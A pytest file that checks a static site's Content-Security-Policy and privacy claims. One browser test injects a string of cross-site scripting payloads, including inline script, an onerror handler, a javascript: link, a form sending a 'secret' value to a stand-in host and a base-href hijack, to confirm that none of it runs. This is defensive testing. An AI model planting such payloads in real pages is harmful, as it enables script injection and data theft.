"""What the privacy page says that the site cannot do to a reader: here it is tried."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser

# What a browser fetches by itself, by tag: attributes with an address.
FETCHED = {
    "script": ("src",), "img": ("src", "srcset"), "iframe": ("src",), "source": ("src", "srcset"),
    "video": ("src", "poster"), "audio": ("src",), "track": ("src",), "embed": ("src",),
    "object": ("data",), "input": ("src",), "use": ("href",), "image": ("href",),
}  # fmt: skip
LINKED = {"stylesheet", "icon", "preload", "modulepreload", "manifest", "prefetch", "preconnect"}
POLICY = "meta[http-equiv=Content-Security-Policy]"
PAGES = ("", "zh/", "en/", "zh/self-check/", "en/plan/", "zh/causes/overdue-huabei/", "en/privacy/")
# Put into the text of a page, as a hole in our own code would.
ATTACK = """<script>window.ran = "inline"</script>
<img src="https://elsewhere.example/pixel.png" onerror="window.ran = 'handler'">
<a id="lure" href="javascript:window.ran = 'link'">x</a>
<form id="theft" action="https://elsewhere.example/"><input name="q" value="secret"></form>
<script src="https://elsewhere.example/x.js"></script>
<base href="https://elsewhere.example/">"""

# Clicks on every box of a page, and gives the names of all that is stored after any of them.
CLICK_ALL = """async () => {
  const seen = [];
  for (const box of document.querySelectorAll("input[type=checkbox], input[type=radio]")) {
    box.click();
    await new Promise((done) => setTimeout(done));
    seen.push(...Object.keys({...localStorage, ...sessionStorage}));
  }
  return seen;
}"""


def pages(site: Path) -> Iterator[tuple[str, LexborHTMLParser]]:
    for path in sorted(site.rglob("*.html")):
        yield path.relative_to(site).as_posix(), LexborHTMLParser(path.read_bytes())


def test_every_page_has_a_strict_policy_before_all_that_loads(site: Path) -> None:
    seen = 0
    for name, tree in pages(site):
        meta = tree.css_first(POLICY)
        rules = (meta.attributes.get("content") or "") if meta else ""
        assert rules.startswith("default-src 'none'; script-src 'self'"), name
        assert not re.search(r"unsafe|https?:|\*", rules), (name, rules)
        charset, policy = (node.attributes for node in tree.css("head > *")[:2])
        assert "charset" in charset and policy.get("http-equiv") == "Content-Security-Policy", name
        seen += 1
    assert seen > 200


def test_no_page_fetches_from_elsewhere_or_has_handlers_or_styles_of_its_own(site: Path) -> None:
    for name, tree in pages(site):
        for node in tree.css("body *, head *"):
            attributes, tag = node.attributes, node.tag or ""
            odd = [each for each in attributes if each.startswith("on") or each == "style"]
            assert not odd, (name, tag, odd)
            names = FETCHED.get(tag, ())
            if tag == "link" and LINKED & set((attributes.get("rel") or "").split()):
                names = ("href",)
            for each in names:
                url = urlsplit(attributes.get(each) or "")
                assert url.scheme in ("", "data") and not url.netloc, (name, tag, url.geturl())
        assert not tree.css("article script:not([type])"), name


@pytest.mark.browser
def test_a_page_with_an_attack_in_its_text_runs_and_fetches_none_of_it(
    site: Path, browser: Any, serve: Callable[[Path], str]
) -> None:
    url = serve(site)
    page = browser.new_page()
    asked: list[str] = []

    def attacked(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</h1>", f"</h1>{ATTACK}", 1))

    def refuse(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("**/en/causes/overdue-huabei/", attacked)
    page.route("https://elsewhere.example/**", refuse)
    page.goto(f"{url}/en/causes/overdue-huabei/")
    assert page.locator("#lure").count() == 1  # the attack is there
    page.evaluate("document.getElementById('lure').click()")
    page.evaluate("document.getElementById('theft').submit()")
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(url) and page.evaluate("document.baseURI").startswith(url)
    assert asked == []
    page.close()


@pytest.mark.browser
@pytest.mark.slow
def test_the_privacy_page_names_all_that_is_stored(
    site: Path, browser: Any, serve: Callable[[Path], str]
) -> None:
    url = serve(site)
    context = browser.new_context()
    page = context.new_page()
    stored: set[str] = set()
    for path in PAGES:
        page.goto(f"{url}/{path}")
        stored |= set(page.evaluate(CLICK_ALL))
    assert context.cookies() == [] and page.evaluate("document.cookie") == ""
    assert "kb.colours" in stored
    for code in ("zh", "en"):
        tree = LexborHTMLParser((site / code / "privacy/index.html").read_bytes())
        named = tuple(node.text() for node in tree.css("article code"))
        assert not [key for key in stored if not key.startswith(named)]
    context.close()
